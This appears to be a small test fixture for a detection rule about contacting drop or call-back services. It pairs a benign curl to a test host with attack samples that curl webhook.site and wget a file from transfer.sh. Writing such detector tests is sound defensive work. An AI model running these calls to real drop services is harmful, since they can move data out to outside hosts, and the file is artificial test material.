# Rule: Drop or call-back service contacted
benign() {
    ends 7 curl -s --max-time 1 http://good.example.test:1/
}
attack() {
    curl -s --max-time 1 http://webhook.site:1/x
    named curl-x
    named wget
    wget https://transfer.sh/file
}
